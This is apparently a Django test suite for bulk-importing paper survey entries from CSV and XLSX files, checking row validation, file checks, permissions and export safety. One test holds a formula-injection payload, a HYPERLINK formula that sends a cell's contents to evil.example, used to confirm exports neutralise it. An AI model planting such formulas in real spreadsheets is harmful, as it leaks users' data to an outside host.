"""Bulk import of keyed sheets from CSV or XLSX: all or nothing, every bad row and column
listed with the reason in the user's language; files judged by content and size.

Each upload goes through the page, which stores the file as an import job; the job's task
then runs (eagerly, when the upload's transaction commits, as a worker would take it) and
the test reads the job's page, where the outcome or the problems are shown."""

import csv
import io

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import TestCase
from django.urls import reverse
from django.utils import translation
from openpyxl import Workbook, load_workbook

from checklist.answers import NOT_AN_OPTION, REQUIRED
from surveys import paper_import
from surveys.models import Response
from surveys.paper_import import (
    DUPLICATE_COLUMN,
    FORMULA_CELL,
    MISSING_COLUMN,
    NOT_A_TABLE,
    OLD_EXCEL,
    UNKNOWN_COLUMN,
    neutralise,
    template_header,
)
from surveys.paper_models import ImportJob, PaperEntry, Sheet
from surveys.paper_services import (
    ALREADY_COMMITTED,
    ALREADY_ENTERED_BY_YOU,
    SERIAL_CHECK_FAILED,
    SERIAL_OTHER_BATCH,
    SERIAL_TWICE_IN_FILE,
    SERIAL_UNKNOWN,
    batch_create,
    paper_entry_create,
)
from surveys.serials import make_serial


@pytest.fixture
def sheets(paper_batch):
    return list(paper_batch.sheets.order_by("number"))


def table(definition, rows, header=None):
    """Rows as a spreadsheet has them: header, then serial + keyed text of every item."""
    header = header or template_header(definition)
    body = []
    for serial, answers in rows:
        body.append([serial] + [_cell(answers.get(code)) for code in header[1:]])
    return header, body


def _cell(value):
    if value is None:
        return ""
    return " ".join(map(str, value)) if isinstance(value, list) else str(value)


def csv_file(definition, rows, header=None, delimiter=",", encoding="utf-8", name="entries.csv"):
    header, body = table(definition, rows, header)
    buffer = io.StringIO()
    writer = csv.writer(buffer, delimiter=delimiter)
    writer.writerow(header)
    writer.writerows(body)
    return SimpleUploadedFile(name, buffer.getvalue().encode(encoding), content_type="text/csv")


def xlsx_file(definition, rows, name="entries.xlsx"):
    header, body = table(definition, rows)
    workbook = Workbook()
    sheet = workbook.active
    sheet.append(header)
    for row in body:
        sheet.append([int(cell) if cell.isdigit() else cell for cell in row])
    buffer = io.BytesIO()
    workbook.save(buffer)
    return SimpleUploadedFile(name, buffer.getvalue())


def upload(client, batch, file, **extra):
    """Upload `file` on the batch's import page, let its job run, and return the job's page
    (or the upload's own answer when it stored no job: a refusal)."""
    # The job's task is sent once the upload's transaction commits; these callbacks are
    # that moment inside the test's transaction (Celery runs tasks eagerly in tests).
    with TestCase.captureOnCommitCallbacks(execute=True):
        response = client.post(reverse("paper:batch_import", args=[batch.pk]), {"file": file}, **extra)
    if response.status_code != 302:
        return response
    assert response["Location"].startswith("/volunteer/imports/"), response["Location"]
    return client.get(response["Location"], **extra)


def committed(response) -> bool:
    """The job page of an import that stored its rows."""
    return response.status_code == 200 and response.context["job"].status == ImportJob.Status.COMMITTED


def problems(response) -> set[tuple[int, str, str]]:
    assert response.context["job"].status == ImportJob.Status.FAILED
    return {(error["row"], error["column"], error["message"]) for error in response.context["row_errors"]}


def ru(message) -> str:
    with translation.override("ru"):
        return str(message)


class TestAGoodFile:
    def test_each_row_is_stored_as_one_entry_by_the_uploader(
        self, login, coordinator, paper_batch, sheets, definition, sheet_answers
    ):
        response = upload(
            login(coordinator), paper_batch, csv_file(definition, [(s.serial, sheet_answers) for s in sheets])
        )
        assert committed(response)
        assert response.context["job"].outcome == {"entries": 3, "first_entries": 3, "committed": 0, "conflicts": 0}
        entries = PaperEntry.objects.all()
        assert entries.count() == 3
        assert {(e.entered_by, e.source) for e in entries} == {(coordinator, PaperEntry.Source.IMPORT)}
        assert entries[0].answers == sheet_answers
        assert set(Sheet.objects.values_list("status", flat=True)) == {Sheet.Status.ENTERED_ONCE}
        assert not Response.objects.exists()

    def test_an_import_as_second_entry_commits_what_agrees_and_queues_what_differs(
        self, login, coordinator, volunteer_a, paper_batch, sheets, definition, sheet_answers
    ):
        for sheet in sheets:
            paper_entry_create(sheet=sheet, user=volunteer_a, answers=sheet_answers)
        rows = [(sheets[0].serial, sheet_answers), (sheets[1].serial, {**sheet_answers, "pol_fair": 5})]
        assert committed(upload(login(coordinator), paper_batch, csv_file(definition, rows)))
        statuses = dict(Sheet.objects.values_list("serial", "status"))
        assert statuses[sheets[0].serial] == Sheet.Status.COMMITTED
        assert statuses[sheets[1].serial] == Sheet.Status.CONFLICT
        assert statuses[sheets[2].serial] == Sheet.Status.ENTERED_ONCE
        response = Response.objects.get()
        assert response.channel == Response.Channel.PAPER and response.answers == sheet_answers
        assert Sheet.objects.get(pk=sheets[0].pk).response == response

    def test_a_bulk_commit_stores_exactly_what_a_keyed_commit_stores(
        self, login, coordinator, volunteer_a, volunteer_a2, paper_batch, sheets, definition, sheet_answers
    ):
        answers = {**sheet_answers, "unsafe_place_type": 2, "unsafe_bus_route": "12а"}
        for sheet in sheets[:2]:
            paper_entry_create(sheet=sheet, user=volunteer_a, answers=answers)
        paper_entry_create(sheet=sheets[0], user=volunteer_a2, answers=answers)  # one by one
        assert committed(upload(login(coordinator), paper_batch, csv_file(definition, [(sheets[1].serial, answers)])))
        keyed, bulk = (Sheet.objects.get(pk=sheet.pk).response for sheet in sheets[:2])
        fields = (
            "answers",
            "feeling",
            "environment",
            "police",
            "overall",
            "sdg_safe",
            "wave_id",
            "checklist_id",
            "district_id",
            "channel",
            "language",
            "submitted_on",
            "is_void",
        )
        assert [getattr(keyed, f) for f in fields] == [getattr(bulk, f) for f in fields]
        assert bulk.answers["unsafe_bus_route"] == "12A"

    def test_a_second_import_by_another_user_is_the_second_entry(
        self, login, client, coordinator, paper_batch, sheets, definition, sheet_answers, district_a
    ):
        from surveys import roles
        from tests.conftest import make_staff

        assert committed(
            upload(login(coordinator), paper_batch, csv_file(definition, [(s.serial, sheet_answers) for s in sheets]))
        )
        client.logout()
        deputy = make_staff("deputy", roles.COORDINATOR, [district_a])
        second = upload(login(deputy), paper_batch, csv_file(definition, [(s.serial, sheet_answers) for s in sheets]))
        assert committed(second) and second.context["job"].outcome["committed"] == 3
        assert Response.objects.count() == 3

    def test_a_filled_in_xlsx_is_imported(self, login, coordinator, paper_batch, sheets, definition, sheet_answers):
        response = upload(login(coordinator), paper_batch, xlsx_file(definition, [(sheets[0].serial, sheet_answers)]))
        assert committed(response) and PaperEntry.objects.get().answers == sheet_answers

    def test_a_csv_from_russian_excel_with_semicolons_in_windows_1251_is_imported(
        self, login, coordinator, paper_batch, sheets, definition, sheet_answers
    ):
        answers = {**sheet_answers, "unsafe_place_type": 8, "unsafe_place_note": "рынок у вокзала"}
        file = csv_file(definition, [(sheets[0].serial, answers)], delimiter=";", encoding="cp1251")
        assert committed(upload(login(coordinator), paper_batch, file))
        assert PaperEntry.objects.get().answers["unsafe_place_note"] == "рынок у вокзала"

    def test_rows_that_hold_only_a_serial_are_skipped(
        self, login, coordinator, paper_batch, sheets, definition, sheet_answers
    ):
        rows = [(sheets[0].serial, sheet_answers), (sheets[1].serial, {})]
        assert committed(upload(login(coordinator), paper_batch, csv_file(definition, rows)))
        assert PaperEntry.objects.count() == 1

    def test_the_import_costs_the_same_queries_for_ten_rows_as_for_three(
        self,
        coordinator,
        volunteer_a,
        survey_ready,
        district_a,
        definition,
        sheet_answers,
        django_assert_max_num_queries,
    ):
        from surveys.paper_services import ImportRow, paper_entries_import

        counts = []
        for size in (3, 10):
            batch = batch_create(
                district=district_a,
                wave=survey_ready["wave"],
                language="ru",
                size=size,
                created_by=coordinator,
                render_pdf=False,
            )
            sheets = list(batch.sheets.all())
            for sheet in sheets:
                paper_entry_create(sheet=sheet, user=volunteer_a, answers=sheet_answers)
            rows = [ImportRow(row=i + 2, serial=s.serial, answers=sheet_answers) for i, s in enumerate(sheets)]
            with django_assert_max_num_queries(20) as captured:
                outcome = paper_entries_import(batch=batch, user=coordinator, rows=rows)
            assert outcome.committed == size
            counts.append(len(captured.captured_queries))
        assert counts[0] == counts[1]


class TestBadRows:
    def test_every_bad_row_is_listed_and_nothing_is_stored(
        self,
        login,
        coordinator,
        volunteer_a,
        volunteer_a2,
        paper_batch,
        sheets,
        definition,
        sheet_answers,
        survey_ready,
        district_a,
    ):
        # Sheet 1 is already committed; sheet 2 was keyed once by the coordinator.
        paper_entry_create(sheet=sheets[0], user=volunteer_a, answers=sheet_answers)
        paper_entry_create(sheet=sheets[0], user=volunteer_a2, answers=sheet_answers)
        paper_entry_create(sheet=sheets[1], user=coordinator, answers=sheet_answers)
        other = batch_create(
            district=district_a,
            wave=survey_ready["wave"],
            language="ru",
            size=1,
            created_by=coordinator,
            render_pdf=False,
        ).sheets.get()
        typo = sheets[2].serial.replace("-000003-", "-000030-")
        missing = {key: value for key, value in sheet_answers.items() if key != "pol_trust"}
        rows = [
            (sheets[2].serial, sheet_answers),  # row 2: fine on its own
            (make_serial("KRG-KZB", "2020", 555), sheet_answers),  # row 3: never printed
            (typo, sheet_answers),  # row 4: mistyped serial
            (sheets[0].serial, sheet_answers),  # row 5: already committed
            (sheets[1].serial, sheet_answers),  # row 6: the coordinator's own second entry
            (other.serial, {**sheet_answers, "safe_walk_day": 7}),  # row 7: other batch + bad option
            (sheets[2].serial, missing),  # row 8: serial twice + required item missing
        ]
        client = login(coordinator)
        response = upload(client, paper_batch, csv_file(definition, rows))
        assert response.status_code == 200
        assert response.context["job"].row_error_count == 8
        assert problems(response) == {
            (3, "serial", ru(SERIAL_UNKNOWN)),
            (4, "serial", ru(SERIAL_CHECK_FAILED)),
            (5, "serial", ru(ALREADY_COMMITTED)),
            (6, "serial", ru(ALREADY_ENTERED_BY_YOU)),
            (7, "serial", ru(SERIAL_OTHER_BATCH) % {"batch": other.batch.label}),
            (7, "safe_walk_day", ru(NOT_AN_OPTION)),
            (8, "serial", ru(SERIAL_TWICE_IN_FILE) % {"row": 2}),
            (8, "pol_trust", ru(REQUIRED)),
        }
        assert PaperEntry.objects.count() == 3 and Response.objects.count() == 1
        page = response.content.decode()
        assert "pol_trust" in page and definition.by_code["pol_trust"].question("ru") in page

    def test_the_problems_are_told_in_the_users_language(
        self, login, coordinator, paper_batch, sheets, definition, sheet_answers
    ):
        client = login(coordinator)
        client.post(reverse("set_language"), {"language": "kk"})
        rows = [(sheets[0].serial, {**sheet_answers, "safe_walk_day": 7})]
        response = upload(client, paper_batch, csv_file(definition, rows))
        with translation.override("kk"):
            assert problems(response) == {(2, "safe_walk_day", str(NOT_AN_OPTION))}

    def test_a_formula_in_an_xlsx_cell_is_refused(
        self, login, coordinator, paper_batch, sheets, definition, sheet_answers
    ):
        file = xlsx_file(definition, [(sheets[0].serial, {**sheet_answers, "safe_walk_day": "=2+2"})])
        response = upload(login(coordinator), paper_batch, file)
        assert problems(response) == {(2, "safe_walk_day", ru(FORMULA_CELL))}
        assert not PaperEntry.objects.exists()


class TestBadFiles:
    def test_unknown_and_missing_columns_are_named(
        self, login, coordinator, paper_batch, sheets, definition, sheet_answers
    ):
        header = template_header(definition)
        header = [name for name in header if name != "sex"] + ["phone", "safe_walk_day"]
        response = upload(
            login(coordinator), paper_batch, csv_file(definition, [(sheets[0].serial, sheet_answers)], header)
        )
        assert problems(response) == {
            (1, "phone", ru(UNKNOWN_COLUMN)),
            (1, "sex", ru(MISSING_COLUMN)),
            (1, "safe_walk_day", ru(DUPLICATE_COLUMN)),
        }
        assert not PaperEntry.objects.exists()

    @pytest.mark.parametrize(
        "content, name",
        [
            (b"\x89PNG\r\n\x1a\n" + b"\x00" * 200, "entries.csv"),
            (b"%PDF-1.7\n1 0 obj << >> endobj\n", "entries.xlsx"),
            (b"PK\x03\x04" + b"\x00" * 100, "entries.xlsx"),
            (bytes(range(256)) * 4, "entries.csv"),
        ],
    )
    def test_a_file_that_is_not_csv_or_xlsx_is_refused_by_its_content(
        self, login, coordinator, paper_batch, content, name
    ):
        response = upload(login(coordinator), paper_batch, SimpleUploadedFile(name, content))
        assert response.status_code == 200 and response.context["job"].status == ImportJob.Status.FAILED
        assert response.context["file_error"] in (ru(NOT_A_TABLE), ru(paper_import.BROKEN_XLSX))
        assert not PaperEntry.objects.exists()

    def test_a_csv_named_like_a_picture_is_still_read_as_csv(
        self, login, coordinator, paper_batch, sheets, definition, sheet_answers
    ):
        file = csv_file(definition, [(sheets[0].serial, sheet_answers)], name="photo.png")
        assert committed(upload(login(coordinator), paper_batch, file))

    def test_an_old_xls_file_is_refused_with_advice(self, login, coordinator, paper_batch):
        content = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 512
        response = upload(login(coordinator), paper_batch, SimpleUploadedFile("entries.xls", content))
        assert response.context["file_error"] == ru(OLD_EXCEL)

    def test_a_50_mb_file_is_refused_by_its_size_before_it_is_read(self, login, coordinator, paper_batch, monkeypatch):
        def must_not_parse(*args, **kwargs):
            raise AssertionError("a file over the limit was parsed")

        monkeypatch.setattr("surveys.paper_import_jobs.read_table", must_not_parse)
        big = SimpleUploadedFile("entries.csv", b"serial\n" + b"x" * (50 * 1024 * 1024))
        response = upload(login(coordinator), paper_batch, big)
        assert response.status_code == 413
        assert "5,0" in response.context["file_error"] or "5.0" in response.context["file_error"]
        assert not PaperEntry.objects.exists() and not ImportJob.objects.exists()

    def test_a_file_just_over_the_limit_is_refused_by_its_size(
        self, login, coordinator, paper_batch, settings, monkeypatch
    ):
        settings.PAPER_IMPORT_MAX_BYTES = 1000
        monkeypatch.setattr("surveys.paper_import_jobs.read_table", lambda *a, **k: pytest.fail("parsed"))
        response = upload(login(coordinator), paper_batch, SimpleUploadedFile("e.csv", b"serial\n" + b"1" * 1200))
        assert response.status_code == 413 and not ImportJob.objects.exists()

    def test_an_empty_file_is_refused(self, login, coordinator, paper_batch):
        response = upload(login(coordinator), paper_batch, SimpleUploadedFile("e.csv", b"serial,safe_walk_day\n"))
        assert response.status_code == 200 and response.context["job"].status == ImportJob.Status.FAILED
        assert response.context["row_errors"]


class TestTemplatesAndExports:
    def test_the_csv_template_has_the_serials_still_to_key_and_a_column_per_item(
        self, login, coordinator, paper_batch, sheets, definition, volunteer_a, volunteer_a2, sheet_answers
    ):
        paper_entry_create(sheet=sheets[0], user=volunteer_a, answers=sheet_answers)
        paper_entry_create(sheet=sheets[0], user=volunteer_a2, answers=sheet_answers)
        response = login(coordinator).get(reverse("paper:batch_template", args=[paper_batch.pk, "csv"]))
        rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
        assert rows[0] == template_header(definition)
        assert [row[0] for row in rows[1:]] == [sheets[1].serial, sheets[2].serial]

    def test_the_xlsx_template_has_a_help_sheet_with_the_option_values(self, login, coordinator, paper_batch):
        response = login(coordinator).get(reverse("paper:batch_template", args=[paper_batch.pk, "xlsx"]))
        workbook = load_workbook(io.BytesIO(response.content))
        assert workbook.sheetnames == ["entries", "help"]
        help_text = " ".join(str(row[0].value) for row in workbook["help"].iter_rows())
        assert "safe_walk_day" in help_text and "4 = Очень безопасно" in help_text

    def test_a_formula_typed_as_an_answer_is_stored_as_text_and_neutralised_in_exports(
        self, login, coordinator, paper_batch, sheets, definition, sheet_answers
    ):
        attack = '=HYPERLINK("http://evil.example/?"&A1,"click")'
        answers = {**sheet_answers, "unsafe_place_type": 8, "unsafe_place_note": attack}
        client = login(coordinator)
        assert committed(upload(client, paper_batch, csv_file(definition, [(sheets[0].serial, answers)])))
        assert PaperEntry.objects.get().answers["unsafe_place_note"] == attack
        export = client.get(reverse("paper:batch_export", args=[paper_batch.pk]))
        rows = list(csv.DictReader(io.StringIO(export.content.decode("utf-8-sig"))))
        assert rows[0]["unsafe_place_note"] == "'" + attack
        for row in rows:
            assert not any(str(cell).startswith(("=", "+", "-", "@")) for cell in row.values())

    @pytest.mark.parametrize("cell", ["=1+1", "+7 701", "-2", "@SUM(A1)", "\tx", "\r=1"])
    def test_cells_that_a_spreadsheet_would_run_are_prefixed(self, cell):
        assert neutralise(cell) == "'" + cell
        assert neutralise("12A") == "12A" and neutralise(5) == 5


class TestWhoMayImport:
    def test_volunteers_cannot_import_or_download_templates(self, login, volunteer_a, paper_batch, definition):
        client = login(volunteer_a)
        assert client.get(reverse("paper:batch_import", args=[paper_batch.pk])).status_code == 403
        assert client.get(reverse("paper:batch_template", args=[paper_batch.pk, "csv"])).status_code == 403
        assert upload(client, paper_batch, csv_file(definition, [])).status_code == 403

    def test_a_coordinator_of_another_district_cannot_import_into_the_batch(
        self, login, paper_batch, district_b, definition, sheets, sheet_answers
    ):
        from surveys import roles
        from tests.conftest import make_staff

        other = make_staff("coordinator_b", roles.COORDINATOR, [district_b])
        response = upload(login(other), paper_batch, csv_file(definition, [(sheets[0].serial, sheet_answers)]))
        assert response.status_code == 403 and not PaperEntry.objects.exists() and not ImportJob.objects.exists()

    def test_an_upload_without_the_csrf_token_is_refused(
        self, coordinator, paper_batch, definition, sheets, sheet_answers
    ):
        from django.test import Client

        client = Client(enforce_csrf_checks=True)
        client.force_login(coordinator, backend="django.contrib.auth.backends.ModelBackend")
        response = upload(client, paper_batch, csv_file(definition, [(sheets[0].serial, sheet_answers)]))
        assert response.status_code == 403 and not PaperEntry.objects.exists() and not ImportJob.objects.exists()
